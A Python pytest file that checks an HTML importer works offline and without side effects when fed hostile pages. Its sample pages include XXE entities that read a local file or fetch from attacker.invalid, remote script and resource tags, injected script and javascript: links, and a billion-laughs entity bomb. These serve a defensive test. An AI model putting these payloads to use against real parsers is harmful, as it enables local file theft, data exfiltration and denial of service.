"""HTML import is offline and inert: no network, no script, no external entity, no local file read."""

from __future__ import annotations

import socket

import pytest

from annotator.formats import Outcome
from tests.fuzz.conftest import import_bytes


@pytest.fixture
def no_network(monkeypatch) -> list:
    """Any attempt to open a connection or resolve a name is recorded and refused."""
    attempts: list = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network use is forbidden in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


SECRET = "TOP-SECRET-LOCAL-FILE-CONTENT"

HOSTILE_PAGES = {
    "external entity (file)": """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret_path}">]>
<html><body><article><p>Foshan report &xxe; continues with enough words to be an article about Midea in Shunde.</p>
<p>The second paragraph mentions the Greater Bay Area plan and more ordinary text.</p></article></body></html>""",
    "external entity (http)": (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE html [<!ENTITY remote SYSTEM "http://attacker.invalid/entity.txt"> '
        '<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>\n'
        "<html><body><p>Foshan report &remote; with enough words to count as the main text of a news article here.</p>"
        "</body></html>"
    ),
    "remote resources": """<html><head><link rel="stylesheet" href="http://attacker.invalid/s.css">
<script src="http://attacker.invalid/x.js"></script><base href="http://attacker.invalid/">
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/"></head>
<body><img src="http://attacker.invalid/pixel.gif"><iframe src="http://attacker.invalid/frame"></iframe>
<object data="http://attacker.invalid/o"></object><video src="http://attacker.invalid/v.mp4"></video>
<article><p>Midea and Kuka signed an agreement in Shunde District, Foshan, on Tuesday, officials said.</p>
<p>The agreement covers robots, and the Greater Bay Area plan names Foshan a centre of manufacturing.</p></article>
</body></html>""",
    "scripts": """<html><body><script>document.write("INJECTED-BY-SCRIPT"); fetch("http://attacker.invalid/")</script>
<p onload="alert('INJECTED-BY-HANDLER')">Foshan's officials met Midea on Tuesday to discuss a robot park in Shunde.</p>
<p>More text about the plan so that the page has a main text worth keeping as an article.</p>
<noscript>shown only without scripts</noscript><a href="javascript:alert('INJECTED-BY-LINK')">link</a></body></html>""",
    "billion laughs": """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">]>
<html><body><p>Foshan text &lol8; with words enough to be the main text of a short news article.</p></body></html>""",
}


@pytest.mark.parametrize("kind", list(HOSTILE_PAGES))
def test_hostile_html_is_imported_offline_and_inert(tmp_path, no_network, kind):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    page = HOSTILE_PAGES[kind].replace("{secret_path}", str(secret))
    corpus, results = import_bytes(page.encode("utf-8"), "page.html")
    assert no_network == []  # nothing was fetched, no name was even looked up
    for r in results:
        if r.outcome is Outcome.IMPORTED:
            article = corpus.articles.get(r.article_id)
            stored = " ".join([article.title, article.text, str(article.meta)])
            assert SECRET not in stored  # no external entity was resolved
            assert "INJECTED" not in stored  # no script ran, and no script source became text
            assert "lollollollollol" not in stored  # no entity was expanded
            assert len(article.text) < 10_000


def test_the_network_guard_itself_works(no_network):
    with pytest.raises(OSError):
        socket.create_connection(("example.invalid", 80))
    assert no_network
